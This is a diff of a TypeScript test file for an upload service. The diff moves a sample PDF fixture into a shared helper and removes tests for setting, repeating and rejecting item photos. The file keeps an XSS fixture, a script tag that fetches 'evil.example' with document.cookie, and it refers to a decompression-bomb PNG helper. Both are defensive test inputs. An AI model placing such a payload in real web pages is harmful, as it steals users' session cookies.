@@ -5,9 +5,7 @@ import { newId } from '@labada/db/ids'
 import { trimUploads } from '@labada/db/uploads'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { Counter } from './testing/app.ts'
-import { categoriesOf, expenseOf, photo, send } from './testing/spending.ts'
-import { stocked } from './testing/stockroom.ts'
+import { categoriesOf, expenseOf, PDF, photo, send } from './testing/spending.ts'
 import { done, opened, startTill, statusesOf, type Till } from './testing/till.ts'
 
 let till: Till
@@ -18,7 +16,6 @@ afterAll(() => till.app.stop())
 
 const bytes = (...parts: (string | Uint8Array)[]) =>
   new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))))
-const PDF = bytes('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
 const SCRIPT = '<script>fetch("https://evil.example/" + document.cookie)</script>'
 
 /** Every file below the data directory. */
@@ -202,50 +199,6 @@ it('what nobody used for a day is let go, and a picture that somebody else still
   const kept = await till.app.db.selectFrom('upload').selectAll().execute()
   expect(kept.map(({ id }) => id)).toEqual([used.id])
   expect(gone).not.toContain(kept[0]?.contentHash)
-})
-
-describe('the photo of an item', () => {
-  const photoOf = (itemId: string, uploadId: string | null, by: Pick<Counter, 'post'> = till.admin) =>
-    by.post(`/items/${itemId}/photo`, { uploadId })
-
-  it('shows at every counter once it is set, is kept as long as it shows, and can be taken away', async () => {
-    const item = await stocked(till)
-    const upload = done(await send(till.admin, await photo(60)))
-    expect((await till.counter.get(`/uploads/${upload.id}?size=small`)).status).toBe(404)
-    expect(done(await photoOf(item.id, upload.id))).toMatchObject({ photoId: upload.id, name: item.name })
-    const shown = done(await till.counter.get('/shop/items')).items.find(({ id }: { id: string }) => id === item.id)
-    expect(shown.photoId).toBe(upload.id)
-    const small = await till.counter.get(`/uploads/${upload.id}?size=small`)
-    expect([small.status, (await sharp(small.bytes).metadata()).format]).toEqual([200, 'webp'])
-
-    await trimUploads(till.app.database.open('labada_workers'), new Date(till.now().getTime() + 1))
-    expect((await till.counter.get(`/uploads/${upload.id}`)).status).toBe(200)
-    expect(done(await photoOf(item.id, null)).photoId).toBeNull()
-    expect((await till.counter.get(`/uploads/${upload.id}`)).status).toBe(404)
-  })
-
-  it('set twice is set once', async () => {
-    const item = await stocked(till)
-    const upload = done(await send(till.admin, await photo(61)))
-    const once = done(await photoOf(item.id, upload.id))
-    const before = (await till.app.announced()).length
-    expect(done(await photoOf(item.id, upload.id))).toEqual(once)
-    expect(await till.app.announced()).toHaveLength(before)
-  })
-
-  it('is a picture of one’s own, so no receipt and no document becomes one; the counter sets none', async () => {
-    const item = await stocked(till)
-    const receipt = done(await send(till.counter, await photo(62)))
-    const paper = done(await send(till.admin, PDF, { type: 'application/pdf', name: 'list.pdf' }))
-    const other = done(await send(await till.app.admin(), await photo(63)))
-    for (const { id } of [receipt, paper, other, { id: newId() }]) {
-      expect(await photoOf(item.id, id)).toMatchObject({ status: 422, body: { code: 'FIELD_INVALID' } })
-    }
-    const own = done(await send(till.admin, await photo(64)))
-    expect((await photoOf(item.id, own.id, till.counter)).status).toBe(403)
-    expect((await photoOf(newId(), own.id)).status).toBe(404)
-    expect(done(await till.admin.get(`/items/${item.id}`)).photoId).toBeNull()
-  })
 })
 
 /** A PNG of one colour, whose data unpacks to far more than it is. */
